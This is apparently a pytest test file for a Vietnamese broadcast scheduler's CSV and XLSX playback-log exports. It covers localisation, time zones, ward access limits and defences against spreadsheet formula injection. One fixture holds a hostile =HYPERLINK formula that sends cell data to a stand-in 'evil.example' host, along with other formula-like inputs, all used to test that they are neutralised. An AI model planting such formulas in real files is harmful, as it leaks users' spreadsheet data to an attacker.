"""The playback log's files (CSV and XLSX) as people open them: names, Vietnamese words, the
station's local time, the API's own columns kept, ward limits and filters, nothing a
spreadsheet would run."""

from __future__ import annotations

import csv
import io
import tempfile
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from scheduler.playbacks import ledger
from scheduler.playbacks.service import PlaybackFilter
from scheduler.runtime import Runtime
from scheduler.users import service as users
from scheduler.web import logfiles
from tests.scheduler.conftest import PASSWORD, login_as
from wardcast.csvcells import csv_media_type
from wardcast.protocol import Event, EventType, to_wire

# what ?format=csv gave before the names came, in this order: scripts read these
API_COLUMNS = ["id", "station_id", "bulletin_id", "timetable_id", "broadcast_id",
               "scheduled_at", "priority", "status", "started_at", "finished_at", "position_ms",
               "clock_offset_ms", "reason", "programme_id", "programme_position",
               "programme_run_at"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SAIGON, TOKYO = ZoneInfo("Asia/Ho_Chi_Minh"), ZoneInfo("Asia/Tokyo")
STAMP = "%d/%m/%Y %H:%M:%S"


def _bulletin(client: TestClient, admin: dict[str, str], audio: Path, **data: str) -> int:
    with audio.open("rb") as handle:
        answer = client.post("/api/v1/bulletins", headers=admin, data=data,
                             files={"file": ("tin.mp3", handle, "audio/mpeg")})
    assert answer.status_code == 201, answer.text
    approver = login_as(client, client.app.state.runtime, "approver")  # type: ignore[attr-defined]
    assert client.post(f"/api/v1/bulletins/{answer.json()['id']}/approve",
                       headers=approver).status_code == 200
    return int(answer.json()["id"])


def _station(client: TestClient, admin: dict[str, str], name: str, ward: str,
             timezone: str) -> int:
    answer = client.post("/api/v1/stations", headers=admin,
                         json={"name": name, "ward": ward, "timezone": timezone})
    assert answer.status_code == 201, answer.text
    return int(answer.json()["id"])


def _report(runtime: Runtime, station_id: int, playback_id: int, kind: EventType,
            at: datetime, reason: str | None = None) -> None:
    event = Event(event_id=uuid.uuid4().hex, playback_id=playback_id, type=kind, at=at,
                  reason=reason, position_ms=61_000 if kind is EventType.FINISHED else None)
    with runtime.db.session() as session:
        assert ledger.apply_events(session=session,
                                   reports=[(station_id, event)]) == ["stored"]


@pytest.fixture
def log(client: TestClient, runtime: Runtime, admin: dict[str, str],
        speech_mp3: Path) -> dict[str, Any]:
    """Two stations in two wards and zones; five playbacks: played, missed (late), and three
    failures whose station-chosen reasons look like formulas; a title that is one."""
    saigon = _station(client, admin, "Trạm Phường Bến Nghé", "Phường Bến Nghé",
                      "Asia/Ho_Chi_Minh")
    tokyo = _station(client, admin, "Trạm Xã Ea Tam", "Xã Ea Tam", "Asia/Tokyo")
    health = _bulletin(client, admin, speech_mp3, title="Thông báo tiêm chủng đợt 2",
                       language="rad", category="y-te")
    hostile = _bulletin(client, admin, speech_mp3, title=HYPERLINK, language="vi")
    slot = datetime.now(UTC).replace(microsecond=0) + timedelta(hours=2)
    plans = [(health, [saigon, tokyo], slot), (hostile, [saigon, tokyo], slot + timedelta(
        minutes=10)), (health, [tokyo], slot + timedelta(minutes=20))]
    for bulletin_id, station_ids, starts in plans:
        answer = client.post("/api/v1/timetables", headers=admin, json={
            "bulletin_id": bulletin_id, "station_ids": station_ids, "starts_at": to_wire(starts)})
        assert answer.status_code == 201, answer.text
    rows = client.get("/api/v1/playbacks", headers=admin).json()["items"]
    found = {(r["station_id"], r["bulletin_id"], datetime.fromisoformat(r["scheduled_at"])):
             r["id"] for r in rows}
    ids = {
        "played": found[(saigon, health, slot)],
        "missed": found[(tokyo, health, slot)],
        "at": found[(saigon, hostile, slot + timedelta(minutes=10))],
        "minus": found[(tokyo, hostile, slot + timedelta(minutes=10))],
        "plus": found[(tokyo, health, slot + timedelta(minutes=20))]}
    _report(runtime, saigon, ids["played"], EventType.STARTED, slot + timedelta(seconds=2))
    _report(runtime, saigon, ids["played"], EventType.FINISHED, slot + timedelta(seconds=63))
    _report(runtime, tokyo, ids["missed"], EventType.SKIPPED, slot + timedelta(seconds=90),
            "late")
    _report(runtime, saigon, ids["at"], EventType.FAILED, slot, "@SUM(1)")
    _report(runtime, tokyo, ids["minus"], EventType.FAILED, slot, "-1+2")
    _report(runtime, tokyo, ids["plus"], EventType.FAILED, slot, "+SUM(1)")
    return {"ids": ids, "slot": slot, "saigon": saigon, "tokyo": tokyo, "health": health,
            "hostile": hostile}


def _csv(client: TestClient, headers: dict[str, str], **params: str
         ) -> tuple[bytes, list[str], dict[int, dict[str, str]]]:
    answer = client.get("/api/v1/playbacks", headers=headers, params={"format": "csv", **params})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == csv_media_type(bom=params.get("bom") != "false")
    reader = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    return answer.content, header, {int(r[0]): dict(zip(header, r, strict=True)) for r in rows}


def _xlsx(client: TestClient, headers: dict[str, str], **params: str
          ) -> tuple[Worksheet, list[str], dict[int, dict[str, Any]]]:
    answer = client.get("/api/v1/playbacks", headers=headers,
                        params={"format": "xlsx", **params})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == logfiles.XLSX_TYPE
    assert int(answer.headers["content-length"]) == len(answer.content)
    book = load_workbook(io.BytesIO(answer.content))
    assert len(book.worksheets) == 1
    sheet = book.worksheets[0]
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    by_id = {}
    for row in rows:
        named = dict(zip(header, row, strict=True))
        by_id[named["id"]] = named
    return sheet, header, by_id


def test_the_csv_names_everything_in_vietnamese_in_local_time(
        client: TestClient, admin: dict[str, str], log: dict[str, Any]) -> None:
    raw, header, rows = _csv(client, admin)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Vietnamese right
    assert header[:len(API_COLUMNS)] == API_COLUMNS  # the API's columns first, as before
    for title in ("Trạm", "Phường", "Bản tin", "Ngôn ngữ", "Chủ đề", "Nguồn tin", "Trạng thái",
                  "Lý do", "Mã lý do", "Múi giờ", "Giờ phát theo lịch (giờ địa phương)"):
        assert title in header
    ids, slot = log["ids"], log["slot"]
    assert set(rows) == set(ids.values())
    played, missed = rows[ids["played"]], rows[ids["missed"]]
    assert played["Trạm"] == "Trạm Phường Bến Nghé" and played["Phường"] == "Phường Bến Nghé"
    assert missed["Trạm"] == "Trạm Xã Ea Tam" and missed["Phường"] == "Xã Ea Tam"
    assert played["Bản tin"] == "Thông báo tiêm chủng đợt 2"
    assert (played["Ngôn ngữ"], played["Mã ngôn ngữ"]) == ("Ê Đê", "rad")
    # the topic by name, the free-text category as entered, each code in its column
    assert (played["Chủ đề"], played["Mã chủ đề"]) == ("Y tế", "y-te")
    assert played["Chuyên mục (như đã nhập)"] == "y-te"
    assert (rows[ids["at"]]["Chủ đề"], rows[ids["at"]]["Mã chủ đề"]) == ("Khác", "khac")
    assert (played["status"], played["Trạng thái"]) == ("played", "Đã phát")
    assert (played["priority"], played["Mức ưu tiên"]) == ("normal", "Thường")
    assert (missed["status"], missed["Trạng thái"]) == ("missed", "Bị lỡ")
    assert (missed["reason"], missed["Mã lý do"]) == ("late", "late")
    assert missed["Lý do"] == "Đã qua giờ phát mà trạm chưa phát được"
    assert rows[ids["plus"]]["Trạng thái"] == "Lỗi"
    # the same instant, each station's wall clock: 2 hours apart; UTC as before beside it
    assert played["Giờ phát theo lịch (giờ địa phương)"] == slot.astimezone(SAIGON).strftime(
        STAMP)
    assert missed["Giờ phát theo lịch (giờ địa phương)"] == slot.astimezone(TOKYO).strftime(
        STAMP)
    assert played["scheduled_at"] == missed["scheduled_at"] == to_wire(slot)
    assert (played["Múi giờ"], missed["Múi giờ"]) == ("Asia/Ho_Chi_Minh", "Asia/Tokyo")
    assert played["Bắt đầu (giờ địa phương)"] == (slot + timedelta(seconds=2)).astimezone(
        SAIGON).strftime(STAMP)
    assert played["Kết thúc (giờ địa phương)"] == (slot + timedelta(seconds=63)).astimezone(
        SAIGON).strftime(STAMP)
    assert missed["Bắt đầu (giờ địa phương)"] == "" and missed["started_at"] == ""


def test_the_csv_keeps_the_api_values_under_their_names(
        client: TestClient, admin: dict[str, str], log: dict[str, Any]) -> None:
    _, _, rows = _csv(client, admin)
    items = client.get("/api/v1/playbacks", headers=admin).json()["items"]
    assert len(items) == len(rows)
    for item in items:
        row = rows[item["id"]]
        for name in API_COLUMNS:
            value = item[name]
            expected = "" if value is None else str(value)
            if name.endswith("_at") and value is not None:
                expected = to_wire(datetime.fromisoformat(value))  # as the CSV always wrote it
            if name == "reason" and expected[:1] in "=+-@":
                expected = f"'{expected}"
            assert row[name] == expected, (name, row[name], expected)
    assert rows[log["ids"]["played"]]["position_ms"] == "61000"
    # a tool that cannot skip a byte order mark asks for none
    plain = client.get("/api/v1/playbacks", headers=admin,
                       params={"format": "csv", "bom": "false"}).content
    assert plain.startswith(b"id,station_id,bulletin_id,")
    # and a script that reads the answer as text by its charset never sees the mark
    marked = client.get("/api/v1/playbacks", headers=admin, params={"format": "csv"})
    assert marked.content.startswith(b"\xef\xbb\xbfid,")
    assert next(csv.DictReader(io.StringIO(marked.text)))["id"] == str(items[0]["id"])


def test_nothing_in_the_files_runs_as_a_formula(
        client: TestClient, admin: dict[str, str], log: dict[str, Any]) -> None:
    ids = log["ids"]
    _, _, rows = _csv(client, admin)
    assert rows[ids["at"]]["Bản tin"] == f"'{HYPERLINK}"
    assert [rows[ids[k]]["reason"] for k in ("at", "minus", "plus")] == [
        "'@SUM(1)", "'-1+2", "'+SUM(1)"]
    # an agent's own words are shown as they are, made safe too
    assert [rows[ids[k]]["Lý do"] for k in ("at", "minus", "plus")] == [
        "'@SUM(1)", "'-1+2", "'+SUM(1)"]
    assert all(rows[ids[k]]["Mã lý do"] == "" for k in ("at", "minus", "plus"))

    sheet, _, cells = _xlsx(client, admin)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # no formula cell at all
    # a string cell shows the text as it is, and stays text when someone edits it
    titles = {cell.value: cell for cell in sheet["D"][1:]}
    assert titles[HYPERLINK].data_type == "s" and titles[HYPERLINK].quotePrefix
    assert not titles["Thông báo tiêm chủng đợt 2"].quotePrefix
    assert [cells[ids[k]]["reason"] for k in ("at", "minus", "plus")] == [
        "@SUM(1)", "-1+2", "+SUM(1)"]


def test_the_xlsx_has_the_same_columns_with_numbers_and_excel_times(
        client: TestClient, admin: dict[str, str], log: dict[str, Any]) -> None:
    ids, slot = log["ids"], log["slot"]
    _, csv_header, csv_rows = _csv(client, admin)
    sheet, header, rows = _xlsx(client, admin)
    assert sorted(header) == sorted(csv_header)
    assert header[:3] == ["Giờ phát theo lịch (giờ địa phương)", "Trạm", "Phường"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}6"
    assert set(rows) == set(ids.values())  # ids are numbers
    played, missed = rows[ids["played"]], rows[ids["missed"]]
    assert played["station_id"] == log["saigon"] and played["position_ms"] == 61_000
    assert played["Trạm"] == "Trạm Phường Bến Nghé" and played["Ngôn ngữ"] == "Ê Đê"
    assert (played["Trạng thái"], missed["Lý do"]) == (
        "Đã phát", "Đã qua giờ phát mà trạm chưa phát được")
    local_slot = "Giờ phát theo lịch (giờ địa phương)"
    assert played[local_slot] == slot.astimezone(SAIGON).replace(tzinfo=None)
    assert missed[local_slot] == slot.astimezone(TOKYO).replace(tzinfo=None)
    assert played["Kết thúc (giờ địa phương)"] == (slot + timedelta(seconds=63)).astimezone(
        SAIGON).replace(tzinfo=None)
    assert played["scheduled_at"] == to_wire(slot)  # and the UTC text beside it
    column = header.index(local_slot) + 1
    assert sheet.cell(2, column).number_format == "dd/mm/yyyy hh:mm:ss"
    # every cell but the reasons' safety quote says what the CSV says
    for playback_id, row in rows.items():
        for name, value in row.items():
            text = csv_rows[playback_id][name].removeprefix("'")
            if isinstance(value, datetime):
                assert text == value.strftime(STAMP), name
            else:
                assert text == ("" if value is None else str(value)), name


def test_english_on_request(client: TestClient, admin: dict[str, str],
                            log: dict[str, Any]) -> None:
    _, header, rows = _csv(client, admin, lang="en")
    assert header[:len(API_COLUMNS)] == API_COLUMNS
    played = rows[log["ids"]["played"]]
    assert (played["Station"], played["Status (in words)"], played["Language"]) == (
        "Trạm Phường Bến Nghé", "Played", "Rade (Ê Đê)")
    _, header, _ = _xlsx(client, admin, lang="en")
    assert header[:2] == ["Scheduled (local time)", "Station"]
    refused = client.get("/api/v1/playbacks", headers=admin,
                         params={"format": "csv", "lang": "fr"})
    assert refused.status_code == 422 and refused.json()["field"] == "lang"


def test_ward_limits_and_filters_apply_to_both_files(
        client: TestClient, runtime: Runtime, admin: dict[str, str],
        log: dict[str, Any]) -> None:
    ids = log["ids"]
    username = f"viewer-{uuid.uuid4().hex[:6]}"
    with runtime.db.session() as session:
        users.create_user(session=session, username=username, password=PASSWORD,
                          role="viewer", wards=["Xã Ea Tam"])
    token = client.post("/api/v1/auth/token", data={"username": username, "password": PASSWORD})
    viewer = {"Authorization": f"Bearer {token.json()['access_token']}"}
    theirs = {ids["missed"], ids["minus"], ids["plus"]}
    assert set(_csv(client, viewer)[2]) == theirs
    assert set(_xlsx(client, viewer)[2]) == theirs
    failed = {ids["at"], ids["minus"], ids["plus"]}
    assert set(_csv(client, admin, status="failed")[2]) == failed
    assert set(_xlsx(client, admin, status="failed")[2]) == failed
    assert set(_csv(client, viewer, status="failed")[2]) == {ids["minus"], ids["plus"]}
    mine = {"station_id": str(log["saigon"])}
    assert set(_xlsx(client, admin, **mine)[2]) == {ids["played"], ids["at"]}
    assert set(_csv(client, viewer, **mine)[2]) == set()
    later = {"from": to_wire(log["slot"] + timedelta(minutes=15))}
    assert set(_csv(client, admin, **later)[2]) == set(_xlsx(client, admin, **later)[2]) == {
        ids["plus"]}


def test_a_full_sheet_goes_on_to_the_next(runtime: Runtime, log: dict[str, Any]) -> None:
    with runtime.db.session() as session:
        handle = logfiles.xlsx_file(session=session, filters=PlaybackFilter(), lang="vi",
                                    zone="Asia/Ho_Chi_Minh", scratch=runtime.store.incoming,
                                    sheet_rows=3)
    with handle:
        book = load_workbook(handle)
    assert book.sheetnames == ["Nhật ký phát", "Nhật ký phát (2)", "Nhật ký phát (3)"]
    found = []
    for sheet in book.worksheets:
        header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert header[:2] == ["Giờ phát theo lịch (giờ địa phương)", "Trạm"]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.endswith(str(len(rows) + 1))
        found += [row[header.index("id")] for row in rows]
    assert [len(s["A"]) for s in book.worksheets] == [3, 3, 2]
    assert sorted(found) == sorted(log["ids"].values())


def test_the_xlsx_is_made_in_the_scratch_folder_and_leaves_nothing(
        client: TestClient, runtime: Runtime, admin: dict[str, str], log: dict[str, Any],
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # the system's temp dir may be a small tmpfs (Debian 13): the work files (1.1 GB a
    # million rows) must go to the data dir's scratch folder, swept if the process is killed
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no-system-temp-dir"))
    scratch = runtime.store.incoming
    before = set(scratch.iterdir())
    assert set(_xlsx(client, admin)[2]) == set(log["ids"].values())
    assert set(scratch.iterdir()) == before
